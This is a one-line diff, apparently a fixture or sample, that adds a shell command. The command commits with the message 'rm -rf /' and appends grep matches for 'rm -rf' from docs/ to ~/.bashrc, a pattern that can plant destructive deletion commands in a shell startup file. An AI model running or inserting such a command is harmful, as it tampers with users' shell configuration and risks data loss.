@@ -1,0 +1,1 @@
+git commit -m "rm -rf /" && grep -r 'rm -rf' docs/ >> ~/.bashrc
